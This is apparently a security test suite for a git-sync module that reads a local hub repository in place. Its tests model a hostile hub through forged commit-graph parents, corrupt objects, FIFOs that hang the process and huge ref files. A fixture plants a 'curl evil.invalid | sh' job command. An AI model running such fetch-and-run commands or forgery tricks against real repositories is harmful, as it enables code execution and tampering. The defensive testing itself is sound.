"""An attacker's review of "a hub on a local path is read in place" (cob.sync.localhub).

Mallory controls the hub repository's files (refs, packed-refs, objects, config, the
auxiliary files git reads beside the objects), not our repository or our config. Each test
is an attack that worked against the in-place reading, with real git and real repositories.
"""

from __future__ import annotations

import os
import struct
import subprocess
import sys
import zlib
from collections.abc import Iterator
from pathlib import Path

import pygit2
import pytest

import cob
from cob.sync import localhub
from tests.conftest import git
from tests.jobs.test_sync import LOG, World, index_tip
from tests.jobs.test_sync_local_hub import two_peers


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path)


def evil_commit(hub: pygit2.Repository) -> str:
    """An unsigned commit of Mallory's own (with her ``.git-jobs.toml``), on no ref."""
    blob = hub.create_blob(b'[jobs.evil]\nrun = "curl evil.invalid | sh"\n')
    builder = hub.TreeBuilder()
    builder.insert(".git-jobs.toml", blob, pygit2.enums.FileMode.BLOB)
    ident = pygit2.Signature("m", "m@example.invalid", 1_700_000_000, 0)
    return str(hub.create_commit(None, ident, ident, "evil\n", builder.write(), []))


def forge_second_parent(hub: Path, child: str, extra: str) -> None:
    """Write the hub's ``objects/info/commit-graph`` with ``extra`` as a second parent of
    ``child`` (a commit of one parent). Git takes a commit's parents from that file without
    reading the commit; the commit object itself is unchanged."""
    git(hub, "update-ref", "refs/heads/evil-tmp", extra)
    git(hub, "-c", "commitGraph.generationVersion=1", "commit-graph", "write", "--reachable")
    git(hub, "update-ref", "-d", "refs/heads/evil-tmp")
    path = hub / "objects" / "info" / "commit-graph"
    data = bytearray(path.read_bytes())
    chunks = {}
    for i in range(data[6] + 1):
        at = 8 + 12 * i
        chunks[bytes(data[at : at + 4])] = struct.unpack(">Q", data[at + 4 : at + 12])[0]
    oidl, cdat = chunks[b"OIDL"], chunks[b"CDAT"]
    oids = [bytes(data[oidl + 20 * i : oidl + 20 * i + 20]).hex() for i in range((cdat - oidl) // 20)]
    at = cdat + 36 * oids.index(child)
    assert struct.unpack(">I", data[at + 24 : at + 28])[0] == 0x70000000  # one parent
    struct.pack_into(">I", data, at + 24, oids.index(extra))
    os.chmod(path, 0o644)
    path.write_bytes(bytes(data))


def corrupt_loose_copy(hub: Path, oid: str) -> None:
    """A loose copy of packed object ``oid`` whose header reads but whose body does not:
    libgit2 reads the loose copy first and fails, git reads the packed one."""
    kind, data = pygit2.Repository(str(hub)).odb.read(oid)
    assert kind == pygit2.enums.ObjectType.BLOB
    loose = hub / "objects" / oid[:2] / oid[2:]
    loose.parent.mkdir(exist_ok=True)
    loose.write_bytes(zlib.compress(f"blob {len(data)}\0".encode()) + b"\0trailing garbage")


# -- 1. git reading a borrowing quarantine reads the hub's auxiliary files -------------------
def test_a_forged_commit_graph_cannot_park_a_commit_through_the_copys_git_fallback(
    world: World, signers: Iterator[cob.Signer]
) -> None:
    """When the copy of what an accepted tip reaches fails (here: a blob libgit2 cannot read
    but git can), migrate() used to hand the quarantine to ``git fetch``. A quarantine that
    borrows the hub's objects lends git the hub's commit-graph too, whose forged parent made
    ``pack-objects`` send Mallory's unsigned commit into our object store."""
    a, node = two_peers(world, signers)
    assert node.sync(str(world.hub)).ok
    job = a.get_mut(next(a.all()).id)
    assert job is not None and a.signer is not None
    job.run(LOG + "again")
    assert a.sync(str(world.hub)).ok
    change = job.tips[a.signer.nid]
    hub = pygit2.Repository(str(world.hub))
    evil = evil_commit(hub)
    git(world.hub, "repack", "-adq", "--no-write-bitmap-index")
    forge_second_parent(world.hub, change, evil)
    commit = hub[change]
    assert isinstance(commit, pygit2.Commit) and len(commit.parent_ids) == 1
    tree = commit.tree
    corrupt_loose_copy(world.hub, str(tree["ops"].id))
    try:
        node.sync(str(world.hub))
    except cob.TransportError as e:
        assert "\n" not in str(e)
    assert evil not in pygit2.Repository(node.repo.path).odb
    assert not (Path(node.repo.path) / "git-jobs-quarantine").exists()
    git(node.repo.path, "fsck", "--strict", "--no-progress")


# -- 2. a broken hub is a transport error, as git's refusal was -------------------------------
def test_a_corrupt_packed_refs_is_one_transport_error(world: World, signers: Iterator[cob.Signer]) -> None:
    """libgit2's refusal to list used to escape as a ``pygit2.GitError`` (the CLI's "internal
    error"; the daemon's sync and its push lost); git's was ``cannot list …``."""
    _, node = two_peers(world, signers)
    git(world.hub, "pack-refs", "--all")
    with open(world.hub / "packed-refs", "a") as f:
        f.write("not a ref line\n")
    with pytest.raises(cob.TransportError) as e:
        node.sync(str(world.hub))
    assert "\n" not in str(e.value) and "cannot list" in str(e.value)
    assert list(node.all()) == []
    assert not (Path(node.repo.path) / "git-jobs-quarantine").exists()


# -- 3. nothing of the hub's blocks this process ----------------------------------------------
def run_python(code: str, seconds: float) -> str | None:
    """The output of ``code`` run by a new Python process, or None when it did not finish
    within ``seconds`` (then killed): a libgit2 call blocked on a FIFO holds the GIL, so no
    thread of the test's own process could time it."""
    try:
        done = subprocess.run(
            [sys.executable, "-c", code], capture_output=True, text=True, timeout=seconds, check=False
        )
    except subprocess.TimeoutExpired:
        return None
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


@pytest.mark.parametrize(
    "fifo",
    ["config-include", "packed-refs", "shallow", "objects/info/alternates", "info/grafts", "commondir"],
)
def test_a_fifo_in_the_hub_does_not_hang_the_process(
    world: World, signers: Iterator[cob.Signer], fifo: str
) -> None:
    """libgit2 opens these files in this process, with no time bound: a FIFO blocks the open
    for good (a daemon's sync of that remote never returns). Git reads them under the sync's
    timeout; such a hub is left to git."""
    node = world.peer("node", next(signers))
    if fifo == "config-include":
        os.mkfifo(world.hub / "included")
        with open(world.hub / "config", "a") as f:
            f.write(f"[include]\n\tpath = {world.hub / 'included'}\n")
    else:
        (world.hub / fifo).parent.mkdir(exist_ok=True)
        (world.hub / fifo).unlink(missing_ok=True)
        os.mkfifo(world.hub / fifo)
    code = f"""
import pygit2
from cob.sync import localhub
hub = localhub.local_hub(pygit2.Repository({node.repo.path!r}), {str(world.hub)!r})
if hub is not None:
    localhub.listed(hub)
    pygit2.Repository({str(world.hub)!r}).odb.exists(pygit2.Oid(hex="1" * 40))
print(hub)
"""
    assert run_python(code, 10) == "None"


def test_a_fifo_for_a_new_object_does_not_hang_the_sync(world: World, signers: Iterator[cob.Signer]) -> None:
    """A loose object of the new index replaced by a FIFO: the in-place walk no longer opens
    it; git meets it under the sync's idle bound and says so, in one line."""
    a, node = two_peers(world, signers)
    assert a.signer is not None
    tip = index_tip(world.hub, a.signer.nid)
    assert tip is not None
    loose = world.hub / "objects" / tip[:2] / tip[2:]
    assert loose.exists()
    os.chmod(loose, 0o600)
    loose.unlink()
    os.mkfifo(loose)
    code = f"""
import cob
from jobs import Jobs
try:
    Jobs.open({node.repo.workdir!r}).sync({str(world.hub)!r}, idle=2, timeout=10)
    print("synced")
except cob.TransportError as e:
    print(len(str(e).splitlines()), "line")
"""
    assert run_python(code, 30) == "1 line"
    assert list(node.all()) == []


# -- 4. configuration only git reads ----------------------------------------------------------
@pytest.mark.parametrize(
    "env",
    [
        {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "protocol.file.allow", "GIT_CONFIG_VALUE_0": "never"},
        {"GIT_CONFIG_PARAMETERS": "'protocol.file.allow'='never'"},
        {"GIT_CONFIG_GLOBAL": "{never}"},
    ],
)
def test_a_policy_given_to_git_by_the_environment_is_git_s_to_apply(
    world: World, signers: Iterator[cob.Signer], monkeypatch: pytest.MonkeyPatch, env: dict[str, str]
) -> None:
    """``git -c`` (``GIT_CONFIG_PARAMETERS``), ``GIT_CONFIG_COUNT`` and another global file
    are read by git, not by libgit2: a local path they forbid was read in place anyway."""
    _, node = two_peers(world, signers)
    never = world.tmp / "never.gitconfig"
    never.write_text("[protocol]\n\tallow = never\n")
    for name, value in env.items():
        monkeypatch.setenv(name, value.format(never=never))
    with pytest.raises(cob.TransportError) as e:
        node.sync(str(world.hub))
    assert "\n" not in str(e.value) and "file" in str(e.value)
    assert list(node.all()) == []


# -- 5. memory the hub decides ----------------------------------------------------------------
@pytest.mark.parametrize("name", ["refs/namespaces/z6Mkhuge/refs/sigrefs", "packed-refs"])
def test_a_huge_ref_file_is_left_to_git(world: World, signers: Iterator[cob.Signer], name: str) -> None:
    """libgit2 reads a loose ref, and packed-refs, whole into this process's memory: a sparse
    file of gigabytes costs the daemon gigabytes (git's process would die alone). Beyond a
    bound, git reads the hub. (Here 300 MiB, sparse: the read is not attempted.)"""
    node = world.peer("node", next(signers))
    path = world.hub / name
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "ab") as f:
        f.truncate(300 << 20)
    assert localhub.local_hub(node.repo, str(world.hub)) is None
